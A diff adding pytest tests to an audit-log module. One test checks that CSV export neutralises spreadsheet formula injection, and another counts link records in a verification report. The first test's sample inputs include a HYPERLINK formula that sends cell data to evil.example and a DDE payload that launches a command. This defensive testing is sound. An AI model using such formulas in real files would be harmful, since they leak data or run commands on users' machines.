@@ -92,3 +92,56 @@ def test_a_digest_is_what_the_canonical_form_hashes_to() -> None:
     values = from_document(d).values
     assert values is not None
     assert d["digest"] == digest(canonical(values)).hex()
+
+
+def test_csv_cells_that_would_be_formulas_are_neutralised_and_still_verify(tmp_path) -> None:
+    """A spreadsheet runs a cell that starts with = + - @ as a formula, quoted or not:
+    an application name or a login's user name is the agent's to choose."""
+    import csv
+
+    from dbgate.audit.serial import CSV_COLUMNS, csv_row
+
+    docs = chain_docs(2)
+    builder = RowBuilder("r", b"k")
+    hostile = {
+        "application_name": '=HYPERLINK("http://evil.example/?"&A1,"open")',
+        "identity": "@SUM(1+1)",
+        "purpose": "+cmd|' /C calc'!A0",
+        "model": "'already quoted",
+    }
+    values = builder.build(StatementEvent("completed", "-- note\nSELECT 1", **hostile), NOW)
+    values[INDEX["chain"]], values[INDEX["seq"]], values[INDEX["logged_at"]] = "r.1", 4, NOW
+    prev = bytes.fromhex(docs[2]["hash"])  # after the two statements, for chain_end
+    docs = docs[:3]
+    docs.append(to_document(values, prev, seal(values, prev), id=4))
+    path = tmp_path / "x.csv"
+    with path.open("w", newline="", encoding="utf-8") as f:
+        w = csv.writer(f, lineterminator="\n")
+        w.writerow(CSV_COLUMNS)
+        for d in docs:
+            w.writerow(csv_row(d))
+    with path.open(newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert not any(cell[:1] in ("=", "+", "-", "@") for row in rows for cell in row.values()), rows[
+        -1
+    ]
+    assert rows[-1]["application_name"] == "'" + hostile["application_name"]
+    assert rows[-1]["model"] == "''already quoted"
+    report = verify_file(path)
+    assert report.ok, report.text()
+
+
+def test_links_are_counted_in_the_report(tmp_path) -> None:
+    docs = chain_docs(4)
+    d = docs[2]
+    docs[2] = link_document(
+        d["chain"],
+        d["seq"],
+        NOW,
+        bytes.fromhex(d["prev_hash"]),
+        bytes.fromhex(d["digest"]),
+        bytes.fromhex(d["hash"]),
+    )
+    report = verify_file(write(tmp_path / "x.jsonl", docs))
+    assert report.ok
+    assert any("1 record(s) are links" in n for n in report.notes), report.text()
